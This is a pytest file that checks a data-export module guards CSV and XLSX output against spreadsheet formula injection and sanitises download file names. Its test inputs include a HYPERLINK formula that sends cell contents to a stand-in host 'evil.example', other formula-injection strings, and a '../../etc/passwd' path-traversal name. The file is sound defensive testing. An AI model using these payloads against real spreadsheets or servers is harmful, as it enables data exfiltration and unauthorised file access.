"""Every cell of every export starts safe (`=`, `+`, `-`, `@`, tab, CR prefixed), numbers stay numbers, and a
download's file name made from user text is a plain name."""
import csv
import io
import re

import openpyxl
import pandas as pd
import pytest

from figures.export import safe_filename, to_csv, to_xlsx

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'


def test_csv_note_lines_cannot_hold_a_formula_cell():
    frame = pd.DataFrame({"region": ["北京市", FORMULA], "value": [1.5, -2.0]})
    text = to_csv(frame, {"source": FORMULA + ", " + FORMULA, "unit": "元\n=1+1", "title": "@SUM(A1),+x"}).decode()
    cells = [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]
    assert cells, text
    for cell in cells:
        assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r") or re.fullmatch(r"-?[\d.]+", cell), cell
    body = pd.read_csv(io.StringIO(text.lstrip("\ufeff")), comment="#")
    assert body["value"].tolist() == [1.5, -2.0]                   # numbers stay numbers


def test_xlsx_cells_and_sheet_name_are_safe():
    frame = pd.DataFrame({FORMULA: [FORMULA, "ok"], "value": [3.25, -1.0]})
    book = openpyxl.load_workbook(io.BytesIO(to_xlsx(frame, {FORMULA: FORMULA}, sheet="a/b:c*?[d]")))
    for sheet in book.worksheets:
        for row in sheet.iter_rows(values_only=True):
            for cell in row:
                assert not (isinstance(cell, str) and cell[:1] in "=+-@\t\r"), cell
    data = book.worksheets[0]
    assert [r[1] for r in data.iter_rows(min_row=2, values_only=True)] == [3.25, -1.0]


@pytest.mark.parametrize("name, expected", [
    ("map_城市_2018", "map_城市_2018"),
    ("../../etc/passwd", "etc_passwd"),
    ('a<b>:"c"/\\|?*d\r\n', "a_b_c_d"),
    ("", "atlas"),
])
def test_safe_filename(name, expected):
    assert safe_filename(name) == expected
